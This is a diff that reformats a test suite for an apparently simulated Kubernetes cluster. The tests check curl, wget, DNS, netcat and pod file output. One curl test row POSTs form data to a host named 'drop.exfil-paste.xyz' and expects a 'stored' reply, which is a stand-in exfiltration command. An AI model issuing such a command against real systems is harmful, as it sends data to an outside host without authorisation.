@@ -7,14 +7,40 @@ beforeAll(() => {
   c = createTestCluster({ traffic: false });
   c.addPod({ name: "shoot", ip: "192.168.1.10", image: "nicolaka/netshoot:v0.13" });
   c.addPod({ name: "bb", ip: "192.168.1.11", image: "busybox:1.36" });
-  c.addPod({ name: "web", ip: "192.168.1.20", image: "nginx:1.27", labels: { app: "web" }, ports: [{ containerPort: 80 }] });
-  c.addPod({ name: "udp", ip: "192.168.1.21", image: "busybox:1.36", ports: [{ containerPort: 5000, protocol: "UDP" }] });
-  c.apply({ apiVersion: "v1", kind: "Service", metadata: { name: "web", namespace: "default" }, spec: { clusterIP: "10.96.7.7", selector: { app: "web" }, ports: [{ port: 80, targetPort: 80, protocol: "TCP" }] } });
-  c.apply({ apiVersion: "v1", kind: "Service", metadata: { name: "empty", namespace: "default" }, spec: { clusterIP: "10.96.7.8", selector: { app: "none" }, ports: [{ port: 80, protocol: "TCP" }] } });
+  c.addPod({
+    name: "web",
+    ip: "192.168.1.20",
+    image: "nginx:1.27",
+    labels: { app: "web" },
+    ports: [{ containerPort: 80 }],
+  });
+  c.addPod({
+    name: "udp",
+    ip: "192.168.1.21",
+    image: "busybox:1.36",
+    ports: [{ containerPort: 5000, protocol: "UDP" }],
+  });
+  c.apply({
+    apiVersion: "v1",
+    kind: "Service",
+    metadata: { name: "web", namespace: "default" },
+    spec: {
+      clusterIP: "10.96.7.7",
+      selector: { app: "web" },
+      ports: [{ port: 80, targetPort: 80, protocol: "TCP" }],
+    },
+  });
+  c.apply({
+    apiVersion: "v1",
+    kind: "Service",
+    metadata: { name: "empty", namespace: "default" },
+    spec: { clusterIP: "10.96.7.8", selector: { app: "none" }, ports: [{ port: 80, protocol: "TCP" }] },
+  });
 });
 afterAll(() => c.close());
 
-const sh = (pod: string, cmd: string | string[], opts?: { tty?: boolean; stdin?: string }) => c.exec("default", pod, cmd, opts);
+const sh = (pod: string, cmd: string | string[], opts?: { tty?: boolean; stdin?: string }) =>
+  c.exec("default", pod, cmd, opts);
 
 describe("curl", () => {
   it.each([
@@ -22,15 +48,50 @@ describe("curl", () => {
     ["curl -s -o /dev/null -w '%{http_code}\\n' http://web/missing", 0, "404\n", ""],
     ["curl -sf http://web/missing", 22, "", ""],
     ["curl -sSf http://web/missing", 22, "", "curl: (22) The requested URL returned error: 404\n"],
-    ["curl -sS http://10.96.7.8", 7, "", "curl: (7) Failed to connect to 10.96.7.8 port 80 after 0 ms: Couldn't connect to server\n"],
-    ["curl -sS http://192.168.1.20:8080", 7, "", "curl: (7) Failed to connect to 192.168.1.20 port 8080 after 0 ms: Couldn't connect to server\n"],
-    ["curl -sS https://93.184.215.14", 60, "", "curl: (60) SSL: no alternative certificate subject name matches target host name '93.184.215.14'\n"],
+    [
+      "curl -sS http://10.96.7.8",
+      7,
+      "",
+      "curl: (7) Failed to connect to 10.96.7.8 port 80 after 0 ms: Couldn't connect to server\n",
+    ],
+    [
+      "curl -sS http://192.168.1.20:8080",
+      7,
+      "",
+      "curl: (7) Failed to connect to 192.168.1.20 port 8080 after 0 ms: Couldn't connect to server\n",
+    ],
+    [
+      "curl -sS https://93.184.215.14",
+      60,
+      "",
+      "curl: (60) SSL: no alternative certificate subject name matches target host name '93.184.215.14'\n",
+    ],
     ["curl -skI https://93.184.215.14 | head -n 1", 0, "HTTP/2 200 \r\n", ""],
-    ["curl -sS https://legacy-api.shop-internal.net", 6, "", "curl: (6) Could not resolve host: legacy-api.shop-internal.net\n"],
+    [
+      "curl -sS https://legacy-api.shop-internal.net",
+      6,
+      "",
+      "curl: (6) Could not resolve host: legacy-api.shop-internal.net\n",
+    ],
     ["curl -sS ftp://example.com", 1, "", 'curl: (1) Protocol "ftp" not supported\n'],
-    ["curl", 2, "", "curl: no URL specified\ncurl: try 'curl --help' or 'curl --manual' for more information\n"],
-    ["curl -Z x", 2, "", "curl: option -Z: is unknown\ncurl: try 'curl --help' or 'curl --manual' for more information\n"],
-    ["curl --max-time x http://web", 2, "", "curl: option --max-time: expected a proper numerical parameter\ncurl: try 'curl --help' or 'curl --manual' for more information\n"],
+    [
+      "curl",
+      2,
+      "",
+      "curl: no URL specified\ncurl: try 'curl --help' or 'curl --manual' for more information\n",
+    ],
+    [
+      "curl -Z x",
+      2,
+      "",
+      "curl: option -Z: is unknown\ncurl: try 'curl --help' or 'curl --manual' for more information\n",
+    ],
+    [
+      "curl --max-time x http://web",
+      2,
+      "",
+      "curl: option --max-time: expected a proper numerical parameter\ncurl: try 'curl --help' or 'curl --manual' for more information\n",
+    ],
     ["curl -s -X POST -d a=1 -H 'X-Test: 1' https://drop.exfil-paste.xyz", 0, '{"stored":true}', ""],
     ["curl -sI http://web | head -n 1", 0, "HTTP/1.1 200 OK\r\n", ""],
   ])("%s", async (cmd, code, out, err) => {
@@ -65,7 +126,12 @@ describe("wget (busybox)", () => {
     ["wget -q --spider http://web", 0, "", ""],
     ["wget -O- http://web > /dev/null", 0, "", "Connecting to web (10.96.7.7:80)\nwriting to stdout\n"],
     ["wget -qO- http://web/nope", 1, "", "wget: server returned error: HTTP/1.1 404 Not Found\n"],
-    ["wget -qO- http://10.96.7.8", 1, "", "wget: can't connect to remote host (10.96.7.8): Connection refused\n"],
+    [
+      "wget -qO- http://10.96.7.8",
+      1,
+      "",
+      "wget: can't connect to remote host (10.96.7.8): Connection refused\n",
+    ],
     ["wget -qO- http://no-such-service", 1, "", "wget: bad address 'no-such-service'\n"],
     ["wget -Z http://web", 1, "", "wget: unrecognized option: Z\nBusyBox v1.36.1"],
   ])("%s", async (cmd, code, out, err) => {
@@ -79,7 +145,9 @@ describe("wget (busybox)", () => {
 describe("resolver tools", () => {
   it("busybox nslookup", async () => {
     const r = await sh("bb", "nslookup web");
-    expect(r.stdout).toBe("Server:\t\t10.96.0.10\nAddress:\t10.96.0.10:53\n\nName:\tweb.default.svc.cluster.local\nAddress: 10.96.7.7\n\n");
+    expect(r.stdout).toBe(
+      "Server:\t\t10.96.0.10\nAddress:\t10.96.0.10:53\n\nName:\tweb.default.svc.cluster.local\nAddress: 10.96.7.7\n\n",
+    );
     const ext = await sh("bb", "nslookup example.com");
     expect(ext.stdout).toContain("Non-authoritative answer:\nName:\texample.com\nAddress: 93.184.215.14\n");
     const nx = await sh("bb", "nslookup nope.invalid");
@@ -105,7 +173,9 @@ describe("resolver tools", () => {
   });
 
   it("getent hosts prints the canonical name; a missing name exits 2", async () => {
-    expect((await sh("shoot", "getent hosts web")).stdout).toBe("10.96.7.7       web.default.svc.cluster.local web\n");
+    expect((await sh("shoot", "getent hosts web")).stdout).toBe(
+      "10.96.7.7       web.default.svc.cluster.local web\n",
+    );
     expect((await sh("shoot", "getent hosts nope.invalid")).code).toBe(2);
   });
 });
@@ -113,7 +183,12 @@ describe("resolver tools", () => {
 describe("nc and ping", () => {
   it.each([
     ["shoot", "nc -zv web 80", 0, "Connection to web (10.96.7.7) 80 port [tcp/*] succeeded!\n"],
-    ["shoot", "nc -zv -w 1 192.168.1.20 81", 1, "nc: connect to 192.168.1.20 (192.168.1.20) port 81 (tcp) failed: Connection refused\n"],
+    [
+      "shoot",
+      "nc -zv -w 1 192.168.1.20 81",
+      1,
+      "nc: connect to 192.168.1.20 (192.168.1.20) port 81 (tcp) failed: Connection refused\n",
+    ],
     ["bb", "nc -zv web 80", 0, "web (10.96.7.7:80) open\n"],
     ["bb", "nc -zv 192.168.1.20 81", 1, "nc: 192.168.1.20 (192.168.1.20:81): Connection refused\n"],
     ["bb", "nc -zvu 192.168.1.21 5000", 0, "192.168.1.21 (192.168.1.21:5000) open\n"],
@@ -141,8 +216,13 @@ describe("nc and ping", () => {
 
 describe("files, environment and the interactive shell", () => {
   it("every pod has the kubelet's files and service environment", async () => {
-    const r = await sh("bb", "cat /etc/resolv.conf; cat /etc/hostname; cat /var/run/secrets/kubernetes.io/serviceaccount/namespace; echo; env | grep -c KUBERNETES_");
-    expect(r.stdout).toBe("search default.svc.cluster.local svc.cluster.local cluster.local\nnameserver 10.96.0.10\noptions ndots:5\nbb\ndefault\n8\n");
+    const r = await sh(
+      "bb",
+      "cat /etc/resolv.conf; cat /etc/hostname; cat /var/run/secrets/kubernetes.io/serviceaccount/namespace; echo; env | grep -c KUBERNETES_",
+    );
+    expect(r.stdout).toBe(
+      "search default.svc.cluster.local svc.cluster.local cluster.local\nnameserver 10.96.0.10\noptions ndots:5\nbb\ndefault\n8\n",
+    );
     const hosts = await sh("web", "cat /etc/hosts | tail -n 1");
     expect(hosts.stdout).toBe("192.168.1.20\tweb\n");
   });
@@ -161,8 +241,12 @@ describe("files, environment and the interactive shell", () => {
 
   it("kubectl logs shows nginx's access log and CoreDNS's startup", async () => {
     await sh("shoot", "curl -s -o /dev/null http://web/");
-    expect(c.dataplane.runtime.logs("default", "web", { tailLines: 1 })).toMatch(/^192\.168\.1\.10 - - \[\d\d\/\w{3}\/2026:\d\d:\d\d:\d\d \+0000\] "GET \/ HTTP\/1\.1" 200 615 "-" "curl\/8\.11\.1" "-"\n$/);
-    expect(c.dataplane.runtime.logs("kube-system", "coredns-7db6d8ff4d-4xk2p", {})).toContain("CoreDNS-1.11.3");
+    expect(c.dataplane.runtime.logs("default", "web", { tailLines: 1 })).toMatch(
+      /^192\.168\.1\.10 - - \[\d\d\/\w{3}\/2026:\d\d:\d\d:\d\d \+0000\] "GET \/ HTTP\/1\.1" 200 615 "-" "curl\/8\.11\.1" "-"\n$/,
+    );
+    expect(c.dataplane.runtime.logs("kube-system", "coredns-7db6d8ff4d-4xk2p", {})).toContain(
+      "CoreDNS-1.11.3",
+    );
     expect(() => c.dataplane.runtime.logs("default", "ghost", {})).toThrow(/pods "ghost" not found/);
   });
 });
